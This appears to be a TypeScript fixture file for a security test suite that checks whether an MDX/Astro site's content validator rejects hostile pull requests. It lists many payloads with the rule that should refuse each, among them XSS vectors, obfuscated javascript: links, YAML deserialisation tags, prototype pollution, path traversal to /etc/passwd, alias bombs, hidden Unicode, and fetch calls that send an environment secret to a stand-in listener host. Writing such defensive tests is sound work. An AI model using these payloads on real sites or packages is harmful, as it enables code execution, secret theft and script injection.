/**
 * Attacks on the content, as a stranger's pull request could bring them: what is put where, which rule refuses it, and in
 * which line and column from where it was put. `CANARY_FILE` and `LISTENER` are filled in by the suite.
 */
import { LEDGER, PROFILE, SOURCE, THEME } from '../builders.ts';

export interface Attack {
  readonly name: string;
  readonly file: string;
  /** Put behind the prose of `file`, or in place of what `edit` finds, or as the whole of `file`. */
  readonly payload: string;
  readonly edit?: RegExp | 'whole';
  readonly rule: string;
  /** Where it is told, counted from where the payload begins: `[1, 1]` is its first character. */
  readonly place?: readonly [line: number, column: number];
}

const WRITE = 'require("node:fs").writeFileSync("CANARY_FILE", "gone")';
const ASK = 'fetch("http://LISTENER/" + process.env.CANARY)';

const prose = (
  name: string,
  payload: string,
  place: readonly [number, number] = [1, 1],
  rule = 'prose',
  file = PROFILE,
): Attack => ({ name, file, payload, rule, place });

/** Code that MDX would run while the site is built. */
const CODE: readonly Attack[] = [
  prose('an import for its effect', 'import "../../../evil.js"'),
  prose('an import of a module of Node', 'import { writeFileSync } from "node:fs"'),
  prose('an import from data', 'import x from "data:text/javascript,1"'),
  prose('an export that writes a file', `export const gone = ${WRITE}`),
  prose('an export that takes the place of the page', 'export default function Layout() { return process.env.CANARY }'),
  prose('an export of frontmatter', 'export const frontmatter = { layout: "./Evil.astro" }'),
  prose('an export of getStaticPaths', `export async function getStaticPaths() { ${ASK} }`),
  prose('an export that waits at the top', `export const x = await ${ASK}`),
  prose('an expression that writes a file', `{${WRITE}}`),
  prose('an expression within a sentence', `The city says {${WRITE}}.`, [1, 15]),
  prose('an expression that reads the environment', 'The key is {process.env.CANARY}.', [1, 12]),
  prose('an expression that asks the network', `{${ASK}}`),
  prose('an expression that imports', '{await import("node:child_process")}', [1, 1], 'prose'),
  prose('an expression over lines', `{\n  ${WRITE}\n}`),
  prose('an expression that pollutes prototypes', '{Object.prototype.polluted = true}'),
  prose('an expression by another name', '{[]["constructor"]["constructor"]("return process")().exit(1)}'),
  prose('an expression with escapes', '{\\u0070rocess.env.CANARY}', [1, 1]),
  prose('a comment of code', '{/* nothing to see */}'),
  prose('an expression in a heading', `## What {${WRITE}} says`, [1, 9]),
  prose('an expression in a list', `- one\n- {${WRITE}}`, [2, 3]),
  prose('an expression in a quotation', `> {${WRITE}}`, [1, 3]),
  prose('an expression in emphasis', `**{${WRITE}}**`, [1, 3]),
  prose('an expression in the words of a link', `[{${WRITE}}](/about/)`, [1, 2]),
  prose('an expression in the words of a claim', `<Claim id="growth">{${WRITE}}</Claim>`, [1, 20]),
  prose('an element within an expression', '{<script src="http://LISTENER/x.js"></script>}'),
  prose('an expression in a theme', `{${WRITE}}`, [1, 1], 'prose', THEME),
  prose('an export in a theme', `export const gone = ${WRITE}`, [1, 1], 'prose', THEME),
  prose('braces that are no code', '{%$ include /etc/passwd %}', [1, 1], 'mdx'),
];

/** Attributes and components. */
const COMPONENTS: readonly Attack[] = [
  prose('an attribute of code', `<Claim id={${WRITE}} />`, [1, 8]),
  prose('a spread attribute', '<Claim id="growth" {...process.env} />', [1, 20]),
  prose('a spread that runs', `<Claim id="growth" {...(${WRITE}, {})} />`, [1, 20]),
  prose('set:html', '<Claim id="growth" set:html="<img src=x onerror=alert`1`>" />', [1, 20]),
  prose('set:html of code', `<Claim id="growth" set:html={${WRITE}} />`, [1, 20]),
  prose('client:load', '<Claim id="growth" client:load />', [1, 20]),
  prose('client:only', '<Claim id="growth" client:only="react" />', [1, 20]),
  prose('server:defer', '<Claim id="growth" server:defer />', [1, 20]),
  prose('is:raw', '<Claim id="growth" is:raw>x</Claim>', [1, 20]),
  prose('a handler', '<Claim id="growth" onclick="alert()" />', [1, 20]),
  prose('a style', '<Claim id="growth" style="position:fixed" />', [1, 20]),
  prose('a slot', '<Claim id="growth" slot="head" />', [1, 20]),
  prose('another component', '<Fragment set:html="x" />'),
  prose('a component of the project', '<Sheet title="x">x</Sheet>'),
  prose('a member of a component', '<Claim.constructor id="growth" />'),
  prose('a member of the process', '<process.env.CANARY />'),
  prose('a component with a namespace', '<svg:script id="growth" />'),
  prose('a component named as objects’ own', '<constructor id="growth" />'),
  prose('a fragment', '<>x</>'),
  prose('a claim twice over', '<Claim id="growth" id="nope" />', [1, 20]),
  prose('a direction mark in an attribute', '<Term ko="항만\u202E">port</Term>', [1, 7]),
];

/** HTML. */
const MARKUP: readonly Attack[] = [
  prose('a script', '<script>alert()</script>'),
  prose('a script from elsewhere, in a line', 'So <script src="http://LISTENER/x.js"></script> it is.', [1, 4]),
  prose('an image that fails', '<img src="x" onerror="alert()" />'),
  prose('an image that counts its readers', 'x <img src="http://LISTENER/pixel.gif" />', [1, 3]),
  prose('a frame', '<iframe src="//LISTENER"></iframe>'),
  prose('a drawing that runs', '<svg onload="alert()" />'),
  prose('a form', '<form action="http://LISTENER/"><input name="password" /></form>'),
  prose('a base', '<base href="http://LISTENER/" />'),
  prose('a header', '<meta http-equiv="refresh" content="x" />'),
  prose('a style sheet', '<style>\\@import "x"</style>'),
  prose('an element of the site’s own', '<div id="growth">x</div>'),
  prose('an element with a hyphen', '<x-evil>x</x-evil>'),
  prose('a comment of HTML', 'a <!-- b -->', [1, 3], 'mdx'),
  prose('a document type', '<!DOCTYPE html>', [1, 1], 'mdx'),
  prose('CDATA', '<![CDATA[x]]>', [1, 1], 'mdx'),
  prose('an instruction', '<?php system("id") ?>', [1, 1], 'mdx'),
];

const link = (name: string, url: string): Attack => prose(name, `See [this](${url}).`, [1, 5], 'link');

/** Addresses. */
const ADDRESSES: readonly Attack[] = [
  link('javascript:', 'javascript:alert%28%29'),
  link('javascript: in capitals', 'JaVaScRiPt:alert%28%29'),
  link('javascript: behind a character reference', '&#x6a;avascript:alert%28%29'),
  link('javascript: behind references without a semicolon', '&#0000106avascript:alert%28%29'),
  link('javascript: with its colon as a reference', 'javascript&colon;alert%28%29'),
  link('javascript: with a tab as a reference', 'java&Tab;script:alert%28%29'),
  link('javascript: with a line break as a reference', 'java&NewLine;script:alert%28%29'),
  prose('javascript: with a control sign', 'See [this](\u0001javascript:alert%28%29).', [1, 12]),
  link('javascript: behind percent signs', '%6Aavascript:alert%28%29'),
  link('javascript: with its colon behind percent signs', 'javascript%3Aalert%28%29'),
  link('vbscript:', 'vbscript:msgbox'),
  link('data:', 'data:text/html;base64,PHNjcmlwdD4='),
  link('blob:', 'blob:https://evil.example/x'),
  link('file:', 'file:///etc/passwd'),
  link('view-source:', 'view-source:https://evil.example/'),
  link('an app', 'intent://evil.example#Intent;end'),
  link('http:', 'http://LISTENER/'),
  link('https: and no host', 'https:///evil.example'),
  link('https: without slashes', 'https:evil.example'),
  link('https: with backslashes', 'https:\\\\\\\\evil.example'),
  link('a host behind a name', 'https://www.busan.go.kr@evil.example/'),
  link('a host behind a backslash', 'https://evil.example\\\\@www.busan.go.kr/'),
  link('an address of the reader’s network', 'https://192.168.0.1/'),
  link('an address of the reader’s machine', 'https://localhost/'),
  link('an address of the reader’s machine, in hexadecimal', 'https://0x7f.1/'),
  link('a line break behind percent signs', 'https://evil.example/%0d%0aSet-Cookie:x'),
  link('a NUL byte behind percent signs', 'https://evil.example/%00'),
  link('a direction mark behind percent signs', 'https://evil.example/%E2%80%AE'),
  link('a direction mark', 'https://evil.example/\u202E'),
  link('no scheme', '//evil.example'),
  link('no scheme, a backslash', '/\\\\evil.example'),
  link('no scheme, two backslashes', '\\\\\\\\evil.example'),
  link('a tab between slashes', '/&Tab;/evil.example'),
  link('a way out of the tree', '../../../etc/passwd'),
  link('a way out of the tree from its root', '/profiles/../../etc/passwd'),
  link('a way out of the tree behind percent signs', '/profiles/%2e%2e/%2e%2e/etc/'),
  link('a page that there is not', '/api/v1/secrets.json'),
  link('a letter with a file', 'mailto:?attach=/etc/passwd'),
  link('a letter written for the reader', 'mailto:a@busan.go.kr?bcc=b@evil.example'),
  prose('a bare address without encryption', 'See http://LISTENER/ now.', [1, 5], 'link'),
  prose('a bare address that begins with www', 'See www.evil.example now.', [1, 5], 'link'),
  prose('an automatic link', 'See <javascript:alert> now.', [1, 5], 'mdx'),
  prose('a reference', '[a][b]\n\n[b]: javascript:alert%28%29'),
  prose('a footnote', 'a[^b]\n\n[^b]: [x](javascript:alert%28%29)', [1, 2]),
  prose('an image from elsewhere', '![x](https://evil.example/pixel.gif)'),
  prose('an image that runs', '![x](javascript:alert%28%29)'),
  prose('an image of a file of the machine', '![x](../../../../../etc/passwd)'),
  prose('a direction mark in a title', '[a](https://www.busan.go.kr/ "\u202Eliated")'),
];

/** What cannot be seen. */
const UNSEEN: readonly Attack[] = [
  prose('a direction override', 'The city \u202Esyas', [1, 10]),
  prose('a direction override as a reference', 'The city &#x202E;syas', [1, 10]),
  prose('an isolate', 'The city \u2066says', [1, 10]),
  prose('an Arabic letter mark', 'The city \u061Csays', [1, 10]),
  prose('a zero-width space', 'twen\u200Bty', [1, 5]),
  prose('a zero-width joiner', 'twen\u200Dty', [1, 5]),
  prose('a soft hyphen', 'twen\u00ADty', [1, 5]),
  prose('a Hangul filler', 'The city\u3164says', [1, 9]),
  prose('a halfwidth Hangul filler', 'The city\uFFA0says', [1, 9]),
  prose('a Braille blank', 'The city\u2800says', [1, 9]),
  prose('a no-break space', 'The city\u00A0says', [1, 9]),
  prose('a wide space', 'The city\u3000says', [1, 9]),
  prose('tags that only machines read', 'The city\u{E0069}\u{E0067}\u{E006E} says', [1, 9]),
  prose('variation selectors that carry bytes', 'The city\u{E0101}\u{E0102} says', [1, 9]),
  prose('an escape of the terminal', 'The city \u001B[31msays', [1, 10]),
  prose('a NUL byte', 'The city \u0000says', [1, 10]),
];

const inLedger = (
  name: string,
  edit: RegExp,
  payload: string,
  rule: string,
  place?: readonly [number, number],
): Attack => ({
  name,
  file: LEDGER,
  edit,
  payload,
  rule,
  ...(place === undefined ? {} : { place }),
});
const STATEMENT = /"The port is to grow 2\.7 times\."/;
const LAUGHS = Array.from({ length: 9 }, (_, i) => `b${i}: &b${i} [${`*b${i - 1}, `.repeat(i === 0 ? 0 : 9)}"x"]`).join(
  '\n',
);

/** YAML: records and frontmatter. */
const DATA: readonly Attack[] = [
  inLedger('a tag that makes a function', STATEMENT, '!!js/function "function () { return 1 }"', 'yaml', [1, 1]),
  inLedger('a tag that makes an undefined', STATEMENT, '!!js/undefined ""', 'yaml', [1, 1]),
  inLedger('a tag that makes bytes', STATEMENT, '!!binary "aGk="', 'yaml', [1, 1]),
  inLedger('a tag of another language', STATEMENT, '!!python/object/apply:os.system ["id"]', 'yaml', [1, 1]),
  inLedger('a tag of its own', STATEMENT, '!evil "x"', 'yaml', [1, 1]),
  inLedger('__proto__', /basis: "printed"/, '__proto__: { polluted: true }', 'unknown-field', [1, 1]),
  inLedger(
    '__proto__ in escapes',
    /basis: "printed"/,
    '"\\u005f_proto__": { polluted: true }',
    'unknown-field',
    [1, 1],
  ),
  inLedger(
    'constructor',
    /basis: "printed"/,
    'constructor: { prototype: { polluted: true } }',
    'unknown-field',
    [1, 1],
  ),
  inLedger('constructor in escapes', /basis: "printed"/, '"c\\u006fnstructor": 1', 'unknown-field', [1, 1]),
  inLedger('prototype', /basis: "printed"/, 'prototype: { polluted: true }', 'unknown-field', [1, 1]),
  inLedger(
    'constructor where any name may stand',
    /budget: "marine-budget"/,
    'constructor: "marine-budget"',
    'unknown-field',
    [1, 1],
  ),
  inLedger('a merge key', /basis: "printed"/, '<<: { basis: "printed" }', 'unknown-field', [1, 1]),
  inLedger('a key twice', /basis: "printed"/, 'basis: "printed"\n    basis: "editor"', 'yaml'),
  inLedger(
    'an escape of the terminal in a key',
    /basis: "printed"/,
    '"\\e[31mbasis": "printed"',
    'unknown-field',
    [1, 1],
  ),
  inLedger('a direction mark in what is printed', /"2\.7 times"/, '"2.7 times\\u202E"', 'invalid-printed'),
  inLedger('a Hangul filler in a statement', STATEMENT, '"The port\\u3164 is to grow 2.7 times."', 'invalid-statement'),
  inLedger(
    'a direction mark in a comment',
    /basis: "printed"/,
    'basis: "printed" # \u202E x',
    'hidden-character',
    [1, 20],
  ),
  inLedger('a number beyond reach', /2000000000000/, '1e999', 'yaml'),
  inLedger('a template of code', STATEMENT, '"It grows {process.env.CANARY}."', 'unknown-claim'),
  inLedger('a template that names what objects have', STATEMENT, '"It grows {constructor}."', 'unknown-claim'),
  inLedger('a document to be read from elsewhere', /"busan-2025"/, '"../../etc/passwd"', 'invalid-source'),
  { name: 'a bomb of aliases', file: LEDGER, edit: 'whole', payload: `${LAUGHS}\nclaims: *b8\n`, rule: 'yaml' },
  {
    name: 'a list that holds itself',
    file: LEDGER,
    edit: 'whole',
    payload: 'claims: &a [*a]\n',
    rule: 'invalid-value',
  },
  {
    name: 'brackets within brackets over many lines',
    file: LEDGER,
    edit: 'whole',
    payload: `${'- ['.repeat(26)}\n`.repeat(6000),
    rule: 'yaml',
    place: [2, 75],
  },
  { name: 'ten thousand brackets', file: LEDGER, edit: 'whole', payload: '['.repeat(10_000), rule: 'yaml' },
  {
    name: 'another version of YAML',
    file: LEDGER,
    edit: 'whole',
    payload: '%YAML 1.1\n---\nclaims:\n  - <<: { id: x }\n',
    rule: 'yaml',
    place: [1, 1],
  },
  {
    name: 'a layout',
    file: PROFILE,
    edit: /kind: "metropolitan-city"/,
    payload: 'kind: "metropolitan-city"\nlayout: "../../../src/site/layouts/BaseLayout.astro"',
    rule: 'unknown-field',
    place: [2, 1],
  },
  {
    name: 'frontmatter that ends early for Astro',
    file: PROFILE,
    edit: /kind: "metropolitan-city"/,
    payload: 'kind: "metropolitan-city"\n---: 1\nexport const gone = 1',
    rule: 'frontmatter',
    place: [2, 1],
  },
  {
    name: 'frontmatter of another fence',
    file: PROFILE,
    edit: /kind: "metropolitan-city"/,
    payload: 'kind: "metropolitan-city"\n+++: 1',
    rule: 'frontmatter',
    place: [2, 1],
  },
  {
    name: 'frontmatter that is code',
    file: THEME,
    edit: 'whole',
    payload: `---js\n{ run: ${WRITE} }\n---\n`,
    rule: 'frontmatter',
    place: [1, 1],
  },
  {
    name: 'frontmatter of TOML',
    file: THEME,
    edit: 'whole',
    payload: '+++\nlayout = "./Evil.astro"\n+++\n',
    rule: 'frontmatter',
    place: [1, 1],
  },
  {
    name: 'a tag in frontmatter',
    file: THEME,
    edit: /order: 1/,
    payload: 'order: !!js/eval "1"',
    rule: 'yaml',
    place: [1, 8],
  },
  {
    name: 'a link to a script',
    file: SOURCE,
    edit: /"https:\/\/www\.busan\.go\.kr\/eng"/,
    payload: '"javascript:alert()"',
    rule: 'invalid-url',
  },
  {
    name: 'a link without encryption',
    file: SOURCE,
    edit: /"https:\/\/www\.busan\.go\.kr\/eng"/,
    payload: '"http://LISTENER/"',
    rule: 'invalid-url',
  },
  {
    name: 'a link to a host behind a name',
    file: SOURCE,
    edit: /"https:\/\/www\.busan\.go\.kr\/eng"/,
    payload: '"https://www.busan.go.kr@evil.example/"',
    rule: 'invalid-url',
  },
  {
    name: 'an original outside its folder',
    file: SOURCE,
    edit: /"busan\.txt"/,
    payload: '"../../etc/passwd.txt"',
    rule: 'invalid-document',
  },
];

const lead = (name: string, from: string, rule: string): Attack => ({
  name,
  file: 'content/forwards.yaml',
  edit: 'whole',
  payload: `forwards:\n  - { from: "${from}", to: "promises/" }\n`,
  rule,
  place: [2, 7],
});

const TO_DATA = 'forwards:\n  - { from: "x.html", to: "data/claims.csv" }\n';

/** Addresses that lead readers, or the build, elsewhere. */
const FORWARDS: readonly Attack[] = [
  lead('a page led away', 'profiles/busan/', 'forward'),
  lead('the home page led away', '', 'forward'),
  lead('the search led away', 'search/', 'forward'),
  lead('a folder in the place of a file for hosts', '_headers/', 'invalid-from'),
  lead('a folder in the place of a file', 'favicon.svg/', 'invalid-from'),
  { ...lead('data in the place of a page', 'x.html', 'forward'), payload: TO_DATA, place: [2, 23] },
  lead('a later page of a list led away', 'data/statements/2/', 'forward'),
  lead('a later page of promises led away', 'promises/2/', 'forward'),
  lead('a page of citations led away', 'profiles/busan/cite/1/', 'forward'),
  lead('an embed led away', 'embed/pillars/', 'forward'),
  lead('a file outside the site', '../package.json', 'invalid-from'),
  lead('a file outside the site, from within it', 'profiles/../../../package.json', 'invalid-from'),
  lead('a hidden folder', '.git/config.worktree', 'invalid-from'),
];

const file = (name: string, path: string, payload: string, rule = 'stray-file'): Attack => ({
  name,
  file: path,
  edit: 'whole',
  payload,
  rule,
  place: [1, 1],
});

/** Files that something might run or read. */
const FILES: readonly Attack[] = [
  file('a page of Astro', 'content/profiles/busan/profile.astro', `---\n${WRITE}\n---\n`),
  file('a page of Markdown', 'content/profiles/busan/profile.md', '# x'),
  file('a script beside the themes', 'content/themes/evil.js', WRITE),
  file('a manifest', 'content/package.json', '{"scripts":{"postinstall":"id"}}'),
  file('a configuration of Astro', 'content/astro.config.mjs', WRITE),
  file('a configuration of content', 'content/content.config.ts', WRITE),
  file('an environment', 'seeds/.env', 'CANARY=x'),
  file('a page in HTML', 'content/profiles/busan/index.html', '<script>alert()</script>'),
  file('a drawing', 'content/themes/evil.svg', '<svg onload="alert()"/>'),
  file('a profile in a deeper folder', 'content/profiles/busan/more/profile.mdx', '---\n---\n'),
  file('a name in capitals', 'content/profiles/busan/Profile.MDX', '---\n---\n'),
  file('a name with a line break', 'content/themes/a\nb.mdx', '---\norder: 1\n---\n', 'file-name'),
  file('a name with an escape of the terminal', 'content/themes/a\u001B[31m.mdx', '---\norder: 1\n---\n', 'file-name'),
  file('a name with a way out', 'content/profiles/..%2f..%2fsrc/profile.mdx', '---\norder: 1\n---\n', 'file-name'),
  file('a name that objects have', 'content/profiles/__proto__/claims.yaml', 'claims: []\n', 'file-name'),
];

export const ATTACKS: readonly Attack[] = [
  ...CODE,
  ...COMPONENTS,
  ...MARKUP,
  ...ADDRESSES,
  ...UNSEEN,
  ...DATA,
  ...FORWARDS,
  ...FILES,
];

/** What looks alike and is sound. */
export const HARMLESS: readonly (readonly [name: string, payload: string])[] = [
  ['a word before a colon', 'The word javascript: is only a word.'],
  [
    'import as a word',
    'Imports rose.\nimport and export of goods grew, says the city.'.replace('\nimport', '\nSo import'),
  ],
  ['export at the start of a sentence', 'Export of goods grew, says the city.'],
  ['escaped braces', 'The form reads \\{name\\} and no more.'],
  ['escaped brackets', 'The sign reads \\<script> and no more.'],
  ['entities', 'Research &amp; development, &lt;so&gt; it is, &quot;as planned&quot;.'],
  ['less and more', 'From a < b to b > a.'],
  ['a link elsewhere', '[the city](https://www.busan.go.kr/eng?a=b&c=d#e "The city")'],
  ['a link with Hangul', '[the city](https://www.busan.go.kr/부산/%EB%B6%80%EC%82%B0)'],
  ['a link with brackets', '[the article](https://en.wikipedia.org/wiki/Busan_(city))'],
  ['a link with percent signs of another encoding', '[the city](https://www.busan.go.kr/%BA%CE%BB%EA)'],
  ['a link with a port', '[the city](https://www.busan.go.kr:8443/)'],
  ['a link with an @ in its path', '[the city](https://www.busan.go.kr/@city)'],
  ['a bare link', 'See https://www.busan.go.kr/eng for it.'],
  ['an address of mail', '[the office](mailto:office@busan.go.kr)'],
  ['links within', '[a](/) [b](/profiles/naju/) [c](/themes/ports/) [d](/sources/busan-2025/) [e](/about/)'],
  ['a link to a claim', '[a](/profiles/busan/#growth)'],
  ['claims', 'By <Claim id="growth" />, <Claim id="growth" show="number" />, <Claim id="new-port">the port</Claim>.'],
  ['a term', 'An <Term ko="혁신도시">Innovation City</Term>.'],
  ['emphasis beside Hangul', '**서울(Seoul)**은 크다.'],
  ['emoji and accents', 'Café, naïve, 🙂'],
  ['quotes', '"So", ‘so’ and “so”, said the mayor; process.env is only words.'],
  ['units and formulas', 'So many m² and so much CO₂, says the city.'],
  ['headings and lists', '## Of constructor and prototype\n\n- one\n- another\n\n> a quotation'],
];
